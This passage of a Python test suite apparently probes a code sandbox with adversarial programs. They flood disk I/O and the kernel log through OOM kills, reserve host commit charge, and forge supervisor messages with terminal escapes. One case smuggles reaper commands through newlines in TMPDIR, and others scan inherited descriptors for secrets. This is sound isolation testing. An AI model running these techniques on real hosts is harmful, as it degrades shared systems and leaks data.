    end = time.monotonic() + 8
    n = 0
    i = k
    while time.monotonic() < end and files:
        p = files[i % len(files)]
        i += 4
        try:
            fd = os.open(p, os.O_RDONLY)
        except OSError:
            continue
        size = os.fstat(fd).st_size
        off = 0
        while off < size and time.monotonic() < end:
            sc(187, fd, off, W)
            try:
                os.posix_fadvise(fd, off, W, os.POSIX_FADV_WILLNEED)
            except OSError:
                pass
            a = rawmap(min(W, size - off), prot=1, flags=1, fd=fd, off=off)
            if a:
                libc.madvise(ctypes.c_void_p(a), ctypes.c_size_t(min(W, size - off)), 22)
                libc.munmap(a, min(W, size - off))
            off += W
            n += 1
        os.close(fd)
    return n
kids = []
for k in range(1, 4):
    pid = os.fork()
    if pid == 0:
        name_me()
        work(k)
        os._exit(0)
    kids.append(pid)
say('windows', work(0))
for pid in kids:
    os.waitpid(pid, 0)
result = 1
"""
    ),
    limits=L(wall_s=14, cpu_s=12, memory_mb=256, max_processes=4, io_mb_s=64),
    expected="each host block device reads at most about io_mb_s for the run (readahead the run asks for is throttled as its reads are)",
    judge=judge_disk(),
)

A(
    id="hw7_iops_random",
    **{"class": "host-work"},
    description="4 processes make O_DIRECT reads of one logical block (512 B, else 4 KB) at random offsets of big bound host files for 8 s: few bytes (under io_mb_s) but as many I/O operations as the disk takes; the host's reads/s and busy time per device",
    setup=_setup_bigfiles,
    outside=with_leftovers(diskstats),
    code=prog(
        RAWMAP
        + r"""
import random
files = [p for p in '@BIGFILES@'.split('|') if p]
def work(k):
    rnd = random.Random(k)
    fds = []
    for p in files[:40]:
        try:
            fds.append((os.open(p, os.O_RDONLY | os.O_DIRECT), os.path.getsize(p)))
        except OSError:
            pass
    if not fds:
        return 'no files'
    buf = rawmap(1 << 16)
    libc.pread.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long]
    libc.pread.restype = ctypes.c_long
    bs = 512
    if libc.pread(fds[0][0], buf, bs, 0) < 0:
        bs = 4096
    end = time.monotonic() + 8
    n = 0
    while time.monotonic() < end:
        fd, size = fds[rnd.randrange(len(fds))]
        off = rnd.randrange(max(1, size // bs - 1)) * bs
        if libc.pread(fd, buf, bs, off) > 0:
            n += 1
    return '%d reads of %d B' % (n, bs)
kids = []
for k in range(1, 4):
    pid = os.fork()
    if pid == 0:
        name_me()
        work(k)
        os._exit(0)
    kids.append(pid)
say('worker', work(0))
for pid in kids:
    os.waitpid(pid, 0)
result = 1
"""
    ),
    limits=L(wall_s=14, cpu_s=12, memory_mb=256, max_processes=4, io_mb_s=64),
    expected="the run cannot keep a host disk busy (> 80% util at > 2000 reads/s) for its whole run: a bound on operations as well as bytes",
    judge=judge_disk(iops=True),
)


def _kmsg_all_setup(ctx):
    kmsg_setup(ctx)
    ctx["_kmsg_all"] = 0


def _kmsg_all(ctx):
    """All new kernel log records since the setup, and those naming the run's marker."""
    fd = ctx.get("_kmsg")
    if fd is None:
        return None
    n, named = 0, 0
    while True:
        try:
            rec = os.read(fd, 8192)
        except BlockingIOError:
            break
        except OSError:
            continue
        if not rec:
            break
        n += 1
        if ctx["marker"].encode() in rec or b"oom" in rec.lower() or b"memory cgroup" in rec.lower():
            named += 1
    ctx["_kmsg_all"] = ctx.get("_kmsg_all", 0) + n
    ctx["_kmsg_named"] = ctx.get("_kmsg_named", 0) + named
    return ctx["_kmsg_all"], ctx["_kmsg_named"]


def judge_oom_log(b, a, res, ctx):
    if ctx.get("_kmsg") is None:
        return "inconclusive", "no /dev/kmsg here (%s); %s" % (ctx.get("_kmsg_err"), short(res[-1]))
    allr, named = a["own"] or (0, 0)
    obs = "new host kernel log records during the run: %d, %d of them OOM or the run's; %s; stdout %r" % (
        allr,
        named,
        short(res[-1]),
        _stdout(res[-1])[-300:],
    )
    if named > 200:
        return "hole", "the run filled the host's kernel log: " + obs
    return "stopped", obs


A(
    id="hw7_oom_log_flood",
    **{"class": "host-work"},
    description="the run fills most of its memory cgroup with scratch files (not any process's memory), then forks children that allocate until the cgroup's OOM killer kills them, over and over for 8 s: each kill is a kernel OOM report (tens of lines) in the host's log, and OOM-killer work",
    setup=_kmsg_all_setup,
    outside=with_leftovers(_kmsg_all),
    code=prog(
        r"""
blk = b'z' * (1 << 20)
for k in range(2):
    with open('fill%d' % k, 'wb') as f:
        for _ in range(60):
            try:
                f.write(blk)
            except OSError:
                break
kills = 0
end = time.monotonic() + 8
while time.monotonic() < end:
    pid = os.fork()
    if pid == 0:
        name_me()
        hold = []
        try:
            while True:
                hold.append(bytearray(1 << 20))
        except MemoryError:
            time.sleep(0.2)
        os._exit(3)
    _, st = os.waitpid(pid, 0)
    if os.WIFSIGNALED(st):
        kills += 1
say('KILLS', kills)
result = kills
"""
    ),
    limits=L(wall_s=14, cpu_s=12, memory_mb=96, max_processes=2, file_size_mb=64, max_files=8),
    expected="at most a few (<= 200) host kernel log records for the run: the run ends at its first OOM kill, or the kernel rate-limits the reports",
    judge=judge_oom_log,
)


def judge_teardown(b, a, res, ctx):
    r = res[-1]
    m = re.search(r"^END ([0-9.]+)", _stdout(r), re.M)
    t1 = (ctx.get("t_run1") or [None])[0]
    delay = (t1 - float(m.group(1))) if (m and t1) else None
    obs = "run_python returned %s s after the program's last line; the caller's own CPU %.2f s; %s; stdout %r" % (
        "?" if delay is None else "%.2f" % delay,
        ctx.get("self_cpu", -1),
        short(r),
        _stdout(r)[-300:],
    )
    left = leftover_diff(b, a)
    if left:
        return "hole", obs + "; left: " + "; ".join(left)
    if (delay is not None and delay > 3.0) or ctx.get("self_cpu", 0) > 1.5:
        return "hole", "the caller spent time or CPU freeing what the run left in its cgroup: " + obs
    if delay is None:
        return "inconclusive", "no END line: " + obs
    return "stopped", obs


A(
    id="hw7_teardown_reclaim",
    **{"class": "host-work"},
    description="4 processes make as many negative dentries with 200-character names in the bound trees as the cgroup holds and read big bound files into the page cache, then the worker prints its clock and exits: does emptying the run's cgroup (force_empty / reclaim) cost the caller seconds of its own time after the run?",
    setup=_setup_bigfiles,
    monitor=False,
    code=prog(
        r"""
trees = ['/usr/lib', '/usr/share', '/usr/bin', os.path.dirname(os.__file__)]
files = [p for p in '@BIGFILES@'.split('|') if p][:6]
def dent(k):
    end = time.monotonic() + 7
    i = 0
    pad = 'q' * 190
    while time.monotonic() < end:
        for _ in range(2000):
            try:
                os.stat('%s/%s-%d-%d' % (trees[i % 4], pad, k, i))
            except OSError:
                pass
            i += 1
    return i
kids = []
for k in range(1, 4):
    pid = os.fork()
    if pid == 0:
        name_me()
        dent(k)
        os._exit(0)
    kids.append(pid)
for p in files:
    try:
        with open(p, 'rb') as f:
            while f.read(1 << 22):
                pass
    except OSError:
        pass
say('dentries', dent(0))
for pid in kids:
    os.waitpid(pid, 0)
say('END %.4f' % time.monotonic())
result = 1
"""
    ),
    limits=L(wall_s=16, cpu_s=30, memory_mb=512, max_processes=4),
    expected="run_python returns within about 3 s of the program's end and the caller itself spends under 1.5 s CPU (the run's own cleanup is bounded, or done outside the caller's time)",
    judge=judge_teardown,
)


def _prewarm(ctx):
    from verifiers.sandbox import isolation_level

    isolation_level()


def judge_supervisor(b, a, res, ctx):
    sup_cpu, sup_mb = supervisor_peak(ctx)
    obs = "the supervisor's CPU %.2f s (peak %.0f MB), the caller's own %.2f s; cpu_s %s; %s; stdout %r" % (
        sup_cpu,
        sup_mb,
        ctx.get("self_cpu", -1),
        ctx["limits"]["cpu_s"],
        short(res[-1]),
        _stdout(res[-1])[-200:],
    )
    if sup_cpu > 2.0:
        return "hole", "the supervisor (outside the run's cgroups) worked for the run: " + obs
    if ctx.get("wall", 0) > ctx["limits"]["wall_s"] + 3:
        return "hole", "run_python returned late: " + obs
    return "stopped", obs


A(
    id="hw7_sibling_reap_storm",
    **{"class": "host-work"},
    description="3 processes make, for 8 s, CLONE_PARENT siblings that exit at once and double-forked orphans that exit at once: every one is a child of the supervisor (PID 1, outside the run's cgroups), which round 6's fix now reaps as each ends; its CPU is sampled from the host",
    setup=_prewarm,
    monitor=False,
    during=supervisor_stats,
    during_period=0.5,
    code=prog(
        r"""
def storm():
    end = time.monotonic() + 8
    n = 0
    while time.monotonic() < end:
        r, e = sc(56, 0x8000 | 17, 0, 0, 0, 0)
        if r == 0:
            os._exit(0)
        try:
            pid = os.fork()
        except OSError:
            continue
        if pid == 0:
            try:
                if os.fork() == 0:
                    os._exit(0)
            except OSError:
                pass
            os._exit(0)
        os.waitpid(pid, 0)
        n += 2
    return n
kids = []
for k in range(2):
    pid = os.fork()
    if pid == 0:
        name_me()
        storm()
        os._exit(0)
    kids.append(pid)
say('made', storm())
for pid in kids:
    os.waitpid(pid, 0)
result = 1
"""
    ),
    limits=L(wall_s=14, cpu_s=20, memory_mb=256, max_processes=8),
    expected="the supervisor spends under 2 s CPU on the run's children (bounded by the run's own budgets)",
    judge=judge_supervisor,
)


def kthreads_cpu(ctx=None):
    hz = os.sysconf("SC_CLK_TCK")
    tot = {}
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        st = _read("/proc/%s/stat" % p, 4096).decode(errors="replace")
        try:
            name = st[st.index("(") + 1 : st.rindex(")")]
            f = st[st.rindex(")") + 2 :].split()
        except ValueError:
            continue
        if name.startswith(("khugepaged", "kcompactd", "ksmd", "kswapd")):
            key = name.rstrip("0123456789")
            tot[key] = tot.get(key, 0.0) + (int(f[11]) + int(f[12])) / hz
    return tot


def _setup_kthreads(ctx):
    a = kthreads_cpu()
    time.sleep(3.0)
    b = kthreads_cpu()
    ctx["_kt_base"] = {k: (b.get(k, 0) - a.get(k, 0)) / 3.0 for k in b}


def judge_kthreads(b, a, res, ctx):
    wall = max(ctx.get("wall", 1), 1)
    base = ctx.get("_kt_base", {})
    extra = {k: round(a["own"].get(k, 0) - b["own"].get(k, 0) - base.get(k, 0) * wall, 2) for k in a["own"]}
    obs = (
        "host kernel threads' CPU during the run beyond their rate before it: %s (s, over %.1f s); THP %s; %s; stdout %r"
        % (
            extra,
            wall,
            _read("/sys/kernel/mm/transparent_hugepage/enabled").strip().decode(),
            short(res[-1]),
            _stdout(res[-1])[-200:],
        )
    )
    if sum(v for v in extra.values() if v > 0) > 1.0:
        return "hole", "host kernel threads worked for the run outside its CPU budget: " + obs
    return "stopped", obs


A(
    id="hw7_kthread_work",
    **{"class": "host-work"},
    description="3 processes map 64 MB MADV_HUGEPAGE regions, touch one byte per 4 KB page in a sparse pattern and free half (khugepaged collapse, kcompactd compaction work), MADV_COLLAPSE (25), MADV_MERGEABLE and PR_SET_MEMORY_MERGE (ksmd), for 8 s: the CPU of the host's kernel threads (khugepaged, kcompactd, ksmd, kswapd)",
    setup=_setup_kthreads,
    outside=with_leftovers(kthreads_cpu),
    code=prog(
        RAWMAP
        + r"""
def churn():
    end = time.monotonic() + 8
    n = 0
    libc.prctl(67, 1, 0, 0, 0)
    while time.monotonic() < end:
        a = rawmap(64 << 20)
        if not a:
            time.sleep(0.05)
            continue
        libc.madvise(ctypes.c_void_p(a), ctypes.c_size_t(64 << 20), 14)
        libc.madvise(ctypes.c_void_p(a), ctypes.c_size_t(64 << 20), 12)
        for off in range(0, 64 << 20, 8192):
            ctypes.memset(a + off, 1, 1)
        libc.madvise(ctypes.c_void_p(a), ctypes.c_size_t(64 << 20), 25)
        for off in range(0, 64 << 20, 1 << 21):
            libc.madvise(ctypes.c_void_p(a + off), ctypes.c_size_t(1 << 20), 4)
        time.sleep(0.3)
        libc.munmap(a, 64 << 20)
        n += 1
    return n
kids = []
for k in range(2):
    pid = os.fork()
    if pid == 0:
        name_me()
        churn()
        os._exit(0)
    kids.append(pid)
say('rounds', churn())
for pid in kids:
    os.waitpid(pid, 0)
result = 1
"""
    ),
    limits=L(wall_s=14, cpu_s=20, memory_mb=384, max_processes=3),
    expected="the host's kernel threads spend under 1 s CPU on the run's memory",
    judge=judge_kthreads,
)


def judge_commit(b, a, res, ctx):
    c0 = b["own"]["Committed_AS"] / 1024
    highs = [v["Committed_AS"] / 1024 for _, v in ctx.get("during", []) if v]
    rise = (max(highs) - c0) if highs else 0
    bound = ctx["limits"]["memory_mb"] + 64
    mode = _read("/proc/sys/vm/overcommit_memory").strip().decode()
    obs = (
        "host Committed_AS rose by up to %.0f MB during the run (the run's memory bound %d MB; vm.overcommit_memory %s); %s; stdout %r"
        % (rise, bound, mode, short(res[-1]), _stdout(res[-1])[-200:])
    )
    if rise > bound + 128:
        return (
            "hole",
            "the run reserved more of the host's commit charge than its memory bound (a host in strict overcommit would refuse other processes' allocations): "
            + obs,
        )
    return "stopped", obs


A(
    id="hw7_commit_charge",
    **{"class": "host-work"},
    description="the worker and 4 children each map private writable anonymous memory up to their RLIMIT_AS (per process) without touching it, plus SysV shared memory, and hold it 4 s: commit charge is host-wide and not what the memory cgroup counts",
    outside=with_leftovers(lambda ctx: meminfo("Committed_AS")),
    during=lambda ctx: meminfo("Committed_AS"),
    during_period=0.2,
    code=prog(
        RAWMAP
        + r"""
def reserve():
    got = 0
    step = 64 << 20
    while step >= (1 << 20):
        a = rawmap(step)
        if a:
            got += step
        else:
            step //= 2
    return got >> 20
kids = []
for k in range(4):
    pid = os.fork()
    if pid == 0:
        name_me()
        reserve()
        time.sleep(4)
        os._exit(0)
    kids.append(pid)
libc.shmget.restype = ctypes.c_int
ids = [libc.shmget(0, 8 << 20, 0o1600) for _ in range(4)]
say('reserved MB', reserve(), 'shm', ids)
time.sleep(4)
for pid in kids:
    os.waitpid(pid, 0)
result = 1
"""
    ),
    limits=L(wall_s=12, cpu_s=6, memory_mb=256, max_processes=4),
    expected="the run's commit charge stays within its memory bound (memory_mb + 64 MB), or the run is stopped when it tries",
    judge=judge_commit,
)


# ---- status-records: what the caller records for a run, under another run's noise, other ABIs, uids -----


def judge_crosstalk(b_status):
    def judge(b, a, res, ctx):
        ra, rb = res[0], res[-1]
        obs = "A %s value %r; B %s" % (short(ra), getattr(ra, "value", None), short(rb))
        if run_errors(ctx):
            return "hole", "run_python raised in the caller: %s; %s" % (run_errors(ctx), obs)
        left = leftover_diff(b, a)
        if left:
            return "hole", obs + "; left: " + "; ".join(left)
        if ra is None or rb is None:
            return "inconclusive", "a run gave no result: " + obs
        want = repr("A-" + ctx["nonce"])
        if ra.status != "ok" or ra.value != want or ("A-OUT " + ctx["secret"]) not in (ra.stdout or ""):
            return "hole", "the honest run's record changed while the other run ended its way: " + obs
        if "B-OUT" in (ra.stdout or "") + (ra.stderr or "") + (ra.reason or ""):
            return "hole", "the other run's output reached the honest run's record: " + obs
        if ctx["secret"] in (rb.stdout or "") + (rb.stderr or "") + (rb.reason or "") + (rb.value or ""):
            return "hole", "the honest run's output reached the other run's record: " + obs
        if rb.status not in b_status:
            return "hole", "the adversarial run's status is not its own (%s expected): %s" % (b_status, obs)
        return "stopped", obs

    return judge


_HONEST_A = prog(
    "import time\nprint('A-OUT @SECRET@', flush=True)\ntime.sleep(@A_SLEEP@)\nresult = 'A-@NONCE@'\n", prelude=False
)

A(
    id="st7_crosstalk_refusal",
    **{"class": "status-records"},
    description="two runs at once from one caller: A is honest (prints a secret, sleeps 2 s, returns a value); B prints forged supervisor sentences on stdout and stderr and, at the moment A ends, makes a denied call (ptrace) in itself and 2 children: each run's record must be its own",
    setup=lambda ctx: ctx.update(a_sleep="2.0"),
    concurrent=True,
    code=_HONEST_A,
    receiver=prog(
        r"""
import sys
for s in ("B-OUT refused by the kernel's seccomp filter: ptrace", "B-OUT the run's memory cgroup was full",
          "B-OUT wall time limit reached", "B-OUT ran to completion"):
    print(s, flush=True)
    print(s, file=sys.stderr, flush=True)
t = time.monotonic() + 1.9
kids = []
for k in range(2):
    pid = os.fork()
    if pid == 0:
        name_me()
        while time.monotonic() < t:
            time.sleep(0.001)
        sc(101, 0, 0, 0, 0)
        os._exit(0)
    kids.append(pid)
while time.monotonic() < t:
    time.sleep(0.001)
sc(101, 0, 0, 0, 0)
result = 'B'
"""
    ),
    limits=L(wall_s=8, cpu_s=4, memory_mb=256, max_processes=2),
    expected="A: ok, its value and its stdout exactly; B: refused; nothing of one in the other's record",
    judge=judge_crosstalk(("refused",)),
)

A(
    id="st7_crosstalk_oom_wall",
    **{"class": "status-records"},
    description="two runs at once from one caller: A is honest (sleeps 3 s); B fills its cgroup with scratch files, its children allocate until the cgroup's OOM killer acts, floods stdout and sleeps past wall_s: A's record must stay ok with its value",
    setup=lambda ctx: ctx.update(a_sleep="3.0"),
    concurrent=True,
    code=_HONEST_A,
    receiver=prog(
        r"""
import sys
blk = b'z' * (1 << 20)
with open('fill', 'wb') as f:
    for _ in range(100):
        try:
            f.write(blk)
        except OSError:
            break
for k in range(2):
    if os.fork() == 0:
        name_me()
        hold = []
        try:
            while True:
                hold.append(bytearray(1 << 20))
        except MemoryError:
            pass
        time.sleep(30)
        os._exit(0)
end = time.monotonic() + 30
while time.monotonic() < end:
    try:
        sys.stdout.write('B-OUT ' * 1000 + '\n')
    except Exception:
        pass
"""
    ),
    limits=L(wall_s=6, cpu_s=10, memory_mb=128, max_processes=2, file_size_mb=128, max_files=4),
    expected="A: ok with its value and stdout; B: memory or timeout; neither record carries the other's output",
    judge=judge_crosstalk(("memory", "timeout", "killed")),
)


def judge_i386(b, a, res, ctx):
    r = res[-1]
    out = _stdout(r)
    m = re.search(r"^CHILD (-?\d+)", out, re.M)
    obs = "%s; stdout %r" % (short(r), out[-300:])
    if r is None:
        return "inconclusive", "no result"
    if m:
        st = int(m.group(1))
        if os.WIFEXITED(st) and os.WEXITSTATUS(st) == 0:
            return "hole", "a 32-bit (i386) process ran its system calls in the run: " + obs
        if r.status == "ok" and os.WIFSIGNALED(st):
            return "hole", "a 32-bit process was killed and the run ended ok with nothing recorded: " + obs
    if r.status == "refused":
        return "stopped", obs
    if "EXECFAIL" in out:
        return "stopped", "the i386 binary could not be executed: " + obs
    return "inconclusive", obs


A(
    id="st7_i386_exec",
    **{"class": "status-records"},
    description="the run writes a 100-byte static i386 ELF (getpid, exit_group(0) by int 0x80) into its scratch directory and execs it in a child: a whole 32-bit process, not round 6's int 0x80 from a 64-bit one; the worker reaps it and exits 0",
    code=prog(
        r"""
import struct
code = bytes([0xb8, 0x14, 0, 0, 0, 0xcd, 0x80, 0x31, 0xdb, 0xb8, 0x01, 0, 0, 0, 0xcd, 0x80])
base = 0x08048000
ehdr = b'\x7fELF' + bytes([1, 1, 1, 0]) + bytes(8) + struct.pack(
    '<HHIIIIIHHHHHH', 2, 3, 1, base + 84, 52, 0, 0, 52, 32, 1, 40, 0, 0)
phdr = struct.pack('<IIIIIIII', 1, 0, base, base, 84 + len(code), 84 + len(code), 5, 0x1000)
with open('i386.bin', 'wb') as f:
    f.write(ehdr + phdr + code)
os.chmod('i386.bin', 0o755)
pid = os.fork()
if pid == 0:
    try:
        os.execv(os.path.abspath('i386.bin'), ['i386'])
    except OSError as e:
        print('EXECFAIL', e, flush=True)
    os._exit(99)
_, st = os.waitpid(pid, 0)
say('CHILD', st)
result = 1
"""
    ),
    limits=L(wall_s=8, cpu_s=3, memory_mb=256, max_processes=1, file_size_mb=1),
    expected="refused, the i386 ABI named (a process of another ABI is refused like a call of one), or the exec fails; never ok",
    judge=judge_i386,
)


def judge_uids(b, a, res, ctx):
    uids = []
    for r in res:
        m = re.search(r"^UID (\d+) (\d+)", _stdout(r), re.M)
        uids.append(int(m.group(1)) if m else None)
    host = []
    for u in {x for x in uids if x is not None}:
        for p in os.listdir("/proc"):
            if p.isdigit():
                st = _status_field(int(p), "Uid")
                if st and st.split()[0] == str(u):
                    host.append((int(p), _read("/proc/%s/comm" % p).decode(errors="replace").strip()))
    forks = re.findall(r"^FORKS (.*)$", "\n".join(_stdout(r) for r in res), re.M)
    obs = "run uids %s (caller %d); forks %s; host processes with a run's uid after the runs %s; %s" % (
        uids,
        os.getuid(),
        forks,
        host[:5],
        "; ".join(short(r) for r in res),
    )
    if None in uids:
        return "inconclusive", obs
    if uids[0] == uids[1]:
        return "hole", "two concurrent runs had the same uid (shared per-uid limits and counters): " + obs
    if any(u in (0, os.getuid()) for u in uids):
        return "hole", "a run had the caller's uid: " + obs
    if host:
        return "hole", "a host process outside the runs has a run's uid: " + obs
    return "stopped", obs


_UID_PROG = prog(
    r"""
say('UID', os.getuid(), os.geteuid())
time.sleep(1.0)
kids, errs = [], []
for k in range(2):
    try:
        pid = os.fork()
    except OSError as e:
        errs.append(e.errno)
        continue
    if pid == 0:
        name_me()
        time.sleep(2)
        os._exit(0)
    kids.append(pid)
say('FORKS', len(kids), errs)
for pid in kids:
    os.waitpid(pid, 0)
result = 1
"""
)

A(
    id="st7_uid_concurrent",
    **{"class": "status-records"},
    description="two runs at once report their uid and each fork 2 children at their process limit: do concurrent runs get distinct per-run uids (RLIMIT_NPROC, pipe-buffer and other per-uid counters are per uid), and is a run's uid free of host processes?",
    concurrent=True,
    code=_UID_PROG,
    receiver=_UID_PROG,
    limits=L(wall_s=8, cpu_s=3, memory_mb=256, max_processes=2),
    expected="distinct uids, neither the caller's, no host process with either; both runs fork their 2 children",
    judge=judge_uids,
)

_FORGED = "refused by the kernel's seccomp filter: ptrace; cpu time limit exceeded; \x1b]0;pwn\x07\n F ok 0 7 \u202e"


def judge_note(b, a, res, ctx):
    r = res[-1]
    if r is None:
        return "inconclusive", "no result"
    obs = "%s; reason %r" % (short(r), (r.reason or "")[:600])
    bad = visible_problems(r)
    if bad:
        return "hole", "; ".join(bad) + "; " + obs
    if r.status != "ok" or getattr(r, "source", "program") != "program" or r.value != "7":
        return "hole", "the program's refused-call details changed its status, source or value: " + obs
    if "seccomp filter: ptrace" in (r.reason or ""):
        return "known", "documented open (a guard note's detail carries program text), escaped: " + obs
    return "stopped", obs


A(
    id="st7_note_detail_known",
    **{"class": "status-records"},
    description="documented open (a guard note's detail carrying program text), with control characters: guard refusals whose details are a forged seccomp sentence with an OSC escape, a newline, a forged report line and a bidi override (open of a path, a ctypes library name, a subprocess argv), caught; the run returns 7",
    code=prog(
        r"""
forged = @FORGED@
for f in (lambda: open('/etc/' + forged, 'w'), lambda: __import__('ctypes').CDLL(forged),
          lambda: __import__('subprocess').run([forged])):
    try:
        f()
    except BaseException as e:
        print(type(e).__name__)
result = 7
""".replace("@FORGED@", repr(_FORGED)),
        prelude=False,
    ),
    limits=L(wall_s=8, cpu_s=3, memory_mb=256, max_processes=0),
    expected="documented open: status ok, source program, value 7; the forged text only inside a guard note, escaped (control characters never raw): `known`; raw control characters or a changed status: hole",
    judge=judge_note,
)

# ---- caller-env: other paths and states of the caller's environment --------------------------------------


def _pre_newline(tmp, nonce):
    import subprocess

    victim = os.path.join(tmp, "victim")
    os.makedirs(victim, exist_ok=True)
    with open(os.path.join(victim, "canary"), "w") as f:
        f.write("x")
    vp = subprocess.Popen(["sleep", "300"], start_new_session=True)
    td = os.path.join(tmp, "nl\n+D %s\n+G %d\n-D x\nx" % (victim, vp.pid))
    return {"env": {"TMPDIR": td}, "victim": victim, "proc": vp}


def _post_newline(state):
    time.sleep(3.0)
    vp = state.get("proc")
    alive = vp is not None and vp.poll() is None
    canary = os.path.exists(os.path.join(state["victim"], "canary"))
    rc = vp.returncode if vp is not None else None
    try:
        vp.kill()
        vp.wait(5)
    except Exception:
        pass
    text = "victim process group %s (returncode %s), victim directory's canary %s" % (
        "alive" if alive else "ENDED",
        rc,
        "present" if canary else "GONE",
    )
    if not alive or not canary:
        return "hole", text + ": lines injected through TMPDIR acted on the host"
    return None, text


A(
    id="env7_tmpdir_newline",
    **{"class": "caller-env"},
    description='the caller\'s TMPDIR holds newlines that spell line commands ("+D <a host directory>", "+G <a host process group>") in case paths under it are written to a line protocol (the reaper\'s +D/+G/+C lines); an honest run; after the caller exits normally the scorer checks its victim directory and process group',
    scorer_pre=_pre_newline,
    scorer_post=_post_newline,
    code=prog("import tempfile, os\nprint('TMP', repr(tempfile.gettempdir()))\nresult = 1\n", prelude=False),
    limits=L(wall_s=8, cpu_s=3, memory_mb=256, max_processes=0),
    expected="the host directory and process group named in TMPDIR are untouched after the caller exits (the run works, or fails closed)",
    judge=lambda b, a, res, ctx: ("stopped", short(res[-1]) + "; stdout %r" % _stdout(res[-1])[-200:]),
)


def _setup_fifo(ctx):
    d = sysconfig.get_paths()["purelib"]
    p = os.path.join(d, "r3b7fifo-%s" % ctx["nonce"])
    os.mkfifo(p, 0o644)
    fd = os.open(p, os.O_RDWR | os.O_NONBLOCK)
    os.write(fd, ("R3B7FIFO-" + ctx["secret"] + "\n").encode() * 50)
    ctx["fifo"], ctx["_fifo_fd"] = p, fd


def _teardown_fifo(ctx):
    try:
        os.close(ctx["_fifo_fd"])
    except (KeyError, OSError):
        pass
    try:
        os.unlink(ctx["fifo"])
    except (KeyError, OSError):
        pass


def _long_tmp(tmp):
    p = os.path.join(tmp, "L")
    while len(p) < 4096 - 150:
        p = os.path.join(p, "d" * min(200, 4096 - 150 - len(p)))
    return {"TMPDIR": p}


def judge_fifo_long(b, a, res, ctx):
    r = res[-1]
    bt = None
    try:
        from verifiers.sandbox import probe

        bt = probe().get("bound_trees")
    except Exception as e:
        bt = "probe() unavailable: %r" % (e,)
    obs = "%s; isolation %s; probe bound_trees %r; stdout %r" % (
        short(r),
        getattr(r, "isolation", None),
        str(bt)[:300],
        _stdout(r)[:300],
    )
    if r is not None and ctx["secret"] in _stdout(r):
        if "bind" in str(bt):
            return (
                "known",
                "documented open (a tree bound where no overlay could be made, and said): the run read a host FIFO: "
                + obs,
            )
        return "hole", "the run read a host process's FIFO data and the probe does not say the trees are bound: " + obs
    return "stopped", obs


A(
    id="env7_tmpdir_long",
    **{"class": "caller-env"},
    description="the caller's TMPDIR is a valid path of about 3,950 characters (so a layer path under it makes an overlay's option string longer than a page); a host process holds data in a FIFO in the bound venv site-packages; the run reads the FIFO",
    caller_env=_long_tmp,
    setup=_setup_fifo,
    teardown=_teardown_fifo,
    code=prog(
        r"""
p = '@FIFO@'
try:
    fd = os.open(p, os.O_RDONLY | os.O_NONBLOCK)
    try:
        data = os.read(fd, 4096)
    except BlockingIOError:
        data = b''
    print('READ', data[:80])
except OSError as e:
    print('open', e)
result = 1
""",
        prelude=False,
    ),
    limits=L(wall_s=10, cpu_s=5, memory_mb=256, max_processes=1),
    expected="the run reads nothing of the host FIFO, or fails closed; a silent bind is a hole; a bind the probe reports is documented open (`known`)",
    judge=judge_fifo_long,
)


def _setup_daemon(ctx):
    p = os.path.join(ctx["tmpdir"], "secret0")
    with open(p, "w") as f:
        f.write("R3B7STDIO-%s\n" % ctx["secret"])
    for fd in (0, 1, 2):
        os.close(fd)
    fd0 = os.open(p, os.O_RDONLY)
    r, w = os.pipe()
    os.write(w, ("R3B7PIPE-%s\n" % ctx["secret"]).encode())
    for fd in (fd0, r, w):
        os.set_inheritable(fd, True)
    ctx["_daemon_fds"] = (fd0, r, w)


A(
    id="env7_daemon_stdio_secret",
    **{"class": "caller-env"},
    description="the caller is a daemon whose fds 0-2 were closed: its secret file then opens as fd 0 and a pipe holding a secret as fds 1-2 (inheritable, as a daemon's stdio is); the run scans and reads fds 0-255",
    setup=_setup_daemon,
    code=prog(
        r"""
import stat as _st
for fd in range(256):
    try:
        m = os.fstat(fd).st_mode
    except OSError:
        continue
    try:
        link = os.readlink('/proc/self/fd/%d' % fd)
    except OSError:
        link = '?'
    data = b''
    try:
        os.set_blocking(fd, False)
        data = os.read(fd, 200)
    except OSError:
        pass
    say('FD', fd, oct(m), link, data[:120])
result = 1
"""
    ),
    limits=L(wall_s=8, cpu_s=3, memory_mb=256, max_processes=0),
    expected="no secret of the caller in any output (the run's fds are its own whatever the caller's fds 0-2 are)",
    judge=judge_secret(),
)


def _setup_sigpending(ctx):
    ctx["_sp_old"] = resource.getrlimit(resource.RLIMIT_SIGPENDING)
    try:
        resource.setrlimit(resource.RLIMIT_SIGPENDING, (10**7, 10**7))
        ctx["_sp_set"] = True
    except (ValueError, OSError) as e:
        ctx["_sp_set"] = "not set: %s" % e


def judge_sigpending(b, a, res, ctx):
    r = res[-1]
    avail0 = b["own"]["MemAvailable"] / 1024
    lows = [v["MemAvailable"] / 1024 for _, v in ctx.get("during", []) if v]
    drop = (avail0 - min(lows)) if lows else 0
    bound = ctx["limits"]["memory_mb"] + 64
    obs = "caller RLIMIT_SIGPENDING set %s; host MemAvailable fell by up to %.0f MB (bound %d); %s; stdout %r" % (
        ctx.get("_sp_set"),
        drop,
        bound,
        short(r),
        _stdout(r)[-300:],
    )
    if ctx.get("_sp_set") is not True:
        return "inconclusive", obs
    if drop > bound + 150 and (r is None or r.status != "memory"):
        return "hole", "queued signals held host memory beyond the run's bound: " + obs
    return "stopped", obs


A(
    id="env7_sigpending_unlimited",
    **{"class": "caller-env"},
    description="the caller runs with RLIMIT_SIGPENDING 10,000,000 (a limit the sandbox does not list among those it sets); the worker and 2 children block SIGRTMIN and sigqueue it to themselves until refused (a kernel sigqueue entry each), and hold them 4 s",
    setup=_setup_sigpending,
    teardown=lambda ctx: resource.setrlimit(resource.RLIMIT_SIGPENDING, ctx["_sp_old"]) if ctx.get("_sp_old") else None,
    outside=with_leftovers(lambda ctx: meminfo("MemAvailable")),
    during=lambda ctx: meminfo("MemAvailable"),
    during_period=0.2,
    code=prog(
        r"""
import resource
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
libc.sigqueue.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_void_p]
def fill():
    me = os.getpid()
    n = 0
    end = time.monotonic() + 5
    while time.monotonic() < end:
        for _ in range(1000):
            if libc.sigqueue(me, signal.SIGRTMIN, None) != 0:
                return n, ctypes.get_errno()
            n += 1
    return n, 0
say('RLIMIT_SIGPENDING', resource.getrlimit(resource.RLIMIT_SIGPENDING))
kids = []
for k in range(2):
    pid = os.fork()
